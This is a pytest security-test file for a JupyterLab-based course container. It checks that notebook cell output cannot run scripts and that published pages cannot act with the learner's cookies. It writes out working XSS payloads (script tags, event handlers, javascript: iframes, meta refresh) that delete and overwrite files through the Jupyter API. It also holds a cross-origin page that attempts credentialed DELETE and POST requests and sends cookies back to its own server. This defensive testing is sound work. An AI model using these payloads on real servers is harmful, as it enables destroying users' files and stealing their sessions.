"""A cell's output is shown in the page that may delete files: in a real browser, no script of it runs."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from html import escape
from pathlib import Path
from typing import Any

import pytest

import browser
from mycontainer.lab import course
from needs import needs_lab, needs_module
from test_course import TOKEN, Server

SCRIPT = """
(window.mcRan = window.mcRan || []).push('HOW');
(() => {
    const headers = {'X-XSRFToken': (document.cookie.match('_xsrf=([^;]+)') || [])[1]};
    fetch('/api/contents/deleted.ipynb', {method: 'DELETE', headers});
    fetch('/api/contents/overwritten.ipynb', {method: 'PUT', headers, body:
          JSON.stringify({type: 'file', format: 'text', content: 'HOW'})});
})();"""


def script(how: str) -> str:
    """A script that deletes one file, overwrites another, and leaves its name in the page."""
    return " ".join(SCRIPT.replace("HOW", how).split())


def attack(how: str, template: str, quoted: bool = True) -> str:
    """HTML that would run the script."""
    return template.replace("JS", escape(script(how)) if quoted else script(how))


HTML = {
    "script element": attack("script element", "<script>JS</script>", quoted=False),
    "module": attack("module", "<script type=module>JS</script>", quoted=False),
    "event": attack("event", '<img src=nowhere onerror="JS">'),
    "svg": attack("svg", '<svg onload="JS"><script>JS</script></svg>'),
    "details": attack("details", '<details open ontoggle="JS">x</details>'),
    "srcdoc": f'<iframe srcdoc="{escape(attack("srcdoc", "<script>top.eval(`JS`)</script>", quoted=False))}">'
              "</iframe>",
    "javascript frame": attack("javascript frame", '<iframe src="javascript:top.eval(`JS`)"></iframe>'),
    "javascript link": attack("javascript link", '<a class="click-me" href="javascript:JS">click</a>'),
    "file": '<script src="/files/evil.js"></script>',
    "exported": '<script src="/nbconvert/script/evil.ipynb"></script>',
    "refresh": attack("refresh", '<meta http-equiv="refresh" content="0;url=javascript:JS">'),
    "base": '<base href="http://127.0.0.1:1/">',
}
CELLS = [
    "import ipywidgets\nfrom IPython.display import HTML, SVG, Javascript, display",
    f"display(Javascript({script('javascript')!r}))",
    *(f"display(HTML({text!r}))" for text in HTML.values()),
    f"display({{'text/markdown': {HTML['event']!r}, 'image/svg+xml': {HTML['svg']!r}}}, raw=True)",
    f"display({{'text/markdown': {HTML['event']!r}}}, raw=True)",
    f"ipywidgets.HTML({HTML['event'] + HTML['script element']!r})",
    f"out = ipywidgets.Output()\ndisplay(out)\nwith out: display(Javascript({script('in a widget')!r}))",
    "ipywidgets.Label('a widget is shown')",
    "print('all', 'done')",
]


def notebook(*sources: str) -> str:
    """A notebook as its file."""
    cells: list[object] = [{"cell_type": "code", "id": f"c{number}", "source": source, "metadata": {},
                            "outputs": [], "execution_count": None} for number, source in enumerate(sources)]
    spec = {"name": "container-lab", "display_name": "Container Lab", "language": "python"}
    return json.dumps({"cells": cells, "metadata": {"kernelspec": spec}, "nbformat": 4, "nbformat_minor": 5})


def run_all(server: Server, name: str, last: str) -> Any:
    """All cells of a notebook, in the browser: what is to be seen then."""
    url = f"http://127.0.0.1:{server.port}/lab/tree/{name}?token={TOKEN}"
    with tempfile.TemporaryDirectory() as home:  # a short path: the browser has a socket in there
        places = dict.fromkeys(("HOME", "TMPDIR", "XDG_CONFIG_HOME", "XDG_CACHE_HOME"), home)
        done = subprocess.run([sys.executable, browser.__file__, url, last], capture_output=True, text=True,
                              env={**os.environ, **places})
    assert done.returncode == 0, done.stderr + server.stop()
    return json.loads(done.stdout)


@needs_lab
@needs_module("jupyterlab")
@needs_module("playwright")
@pytest.mark.skipif(not browser.CHROMIUM, reason="needs the program chromium")
def test_nothing_that_a_cell_displays_can_delete_or_overwrite_a_file(tmp_path: Path) -> None:
    server = Server(tmp_path)
    workspace = tmp_path / "workspace"
    try:
        server.wait_until_up()
        (workspace / "attack.ipynb").write_text(notebook(*CELLS))
        (workspace / "evil.js").write_text(script("file"))
        for name in ("deleted", "overwritten"):
            (workspace / f"{name}.ipynb").write_text(notebook("'three years of work'"))
        seen = run_all(server, "attack.ipynb", "all done")
    finally:
        said = server.stop()
    assert seen["scripts"] == []
    for name in ("deleted", "overwritten"):
        assert "three years of work" in (workspace / f"{name}.ipynb").read_text()
    assert any("a widget is shown" in text for text in seen["outputs"])
    assert "token" not in seen["address"]
    assert "websocket_ping" not in said


SERVES = """
import http.server, threading, time
from IPython.display import HTML, display
from mycontainer import lab
paths, cookies = [], []
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        paths.append(self.path)
        cookies.append(self.headers.get("Cookie"))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())
    def log_message(self, *_):
        pass
threading.Thread(target=http.server.ThreadingHTTPServer(("127.0.0.1", PORT), Page).serve_forever,
                 daemon=True).start()
url = lab.publish(PORT).url
display(HTML(f'<img src="{url}/image"><iframe src="{url}/page"></iframe>'))
"""
# What a page can try that has not got the cookie: to have the browser ask in the learner's name.
PAGE = """<script>(async () => {
const there = 'http://127.0.0.1:JUPYTER', heard = [];
const xsrf = (document.cookie.match('_xsrf=([^;]+)') || [])[1] || '';
const tries = {
    remove: () => fetch(there + '/api/contents/deleted.ipynb?_xsrf=' + xsrf,
                        {method: 'DELETE', credentials: 'include'}),
    form: () => fetch(there + '/api/contents?_xsrf=' + xsrf, {method: 'POST', credentials: 'include',
                      mode: 'no-cors', body: new URLSearchParams({_xsrf: xsrf, copy_from: 'deleted.ipynb'})}),
    read: async () => heard.push(await (await fetch(there + '/api/contents',
                                                    {credentials: 'include'})).text()),
    socket: () => new Promise((resolve, reject) => {
        const one = new WebSocket(there.replace('http', 'ws') + '/api/events/subscribe');
        one.onopen = () => { heard.push('connected'); resolve(); };
        one.onerror = reject;
    }),
};
for (const name in tries) { try { await tries[name](); } catch (error) {} }
fetch('/report?' + encodeURIComponent(document.cookie + '|' + heard.join('|')));
})()</script>"""
TELLS = """
deadline = time.monotonic() + 30
while not any(path.startswith("/report") for path in paths) and time.monotonic() < deadline:
    time.sleep(.1)
time.sleep(.5)
print("told", sorted({path.partition("?")[0] for path in paths}), [path for path in paths if "?" in path],
      {cookie for cookie in cookies if cookie})
"""


@needs_lab
@needs_module("jupyterlab")
@needs_module("playwright")
@pytest.mark.skipif(not browser.CHROMIUM, reason="needs the program chromium")
@pytest.mark.parametrize("address", ["", pytest.param("127.0.0.1", marks=pytest.mark.soak)])
def test_a_page_from_the_lab_has_nothing_of_the_learners(
    address: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At JupyterLab's own address the browser would give its cookies away, whatever the port."""
    if address:
        monkeypatch.setenv("MYCONTAINER_PUBLISH_ADDRESS", address)
    server = Server(tmp_path)
    workspace = tmp_path / "workspace"
    try:
        server.wait_until_up()
        port = course.free_port(18000 + os.getpid() % 1000)
        page = PAGE.replace("JUPYTER", str(server.port))
        serves = SERVES.replace("PAGE.", f"{page!r}.").replace("PORT", str(port))
        (workspace / "serving.ipynb").write_text(notebook(serves, TELLS))
        (workspace / "deleted.ipynb").write_text(notebook("'three years of work'"))
        seen = run_all(server, "serving.ipynb", "told")
    finally:
        server.stop()
    told = next(text for text in seen["outputs"] if text.startswith("told"))
    assert "['/image', '/page', '/report']" in told
    assert ("username-127-0-0-1" in told) is bool(address), told
    assert told.endswith("['/report?%7C'] set()\n") is not bool(address), told
    assert "three years of work" in (workspace / "deleted.ipynb").read_text()
    assert not list(workspace.glob("*-Copy*"))
